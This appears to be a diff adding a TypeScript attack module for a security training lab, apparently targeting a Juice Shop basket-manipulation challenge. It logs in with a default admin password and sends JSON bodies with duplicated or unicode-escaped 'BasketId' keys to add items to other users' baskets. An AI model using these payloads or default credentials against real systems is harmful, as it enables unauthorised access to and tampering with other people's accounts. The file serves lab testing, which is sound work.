@@ -1,0 +1,27 @@
+import type { Attack, Tools } from '#lab'
+
+/** Logs in as the administrator, who has the first basket, and sends a body as it is written. */
+async function smuggle({ http, expect, settings }: Tools, body: string): Promise<void> {
+  const login = await http.post('/rest/user/login', {
+    email: `admin@${settings.domain}`,
+    password: 'admin123',
+  })
+  expect(login.status === 200, `the login answered with ${login.status}`)
+  const { token } = login.json<{ authentication: { token: string } }>().authentication
+  const headers = { 'content-type': 'application/json' }
+  const added = await http.post('/api/BasketItems/', body, { token, headers })
+  expect(added.status === 200, `the basket answered with ${added.status}`)
+}
+
+export const attacks: Attack[] = [
+  {
+    challenge: 'basketManipulateChallenge',
+    name: 'two baskets in one request, one’s own first',
+    run: (tools) => smuggle(tools, '{"ProductId":14,"BasketId":"1","quantity":1,"BasketId":"2"}'),
+  },
+  {
+    challenge: 'basketManipulateChallenge',
+    name: 'the second one in another spelling',
+    run: (tools) => smuggle(tools, '{"ProductId":14,"BasketId":1,"quantity":1,"Basket\\u0049d":3}'),
+  },
+]
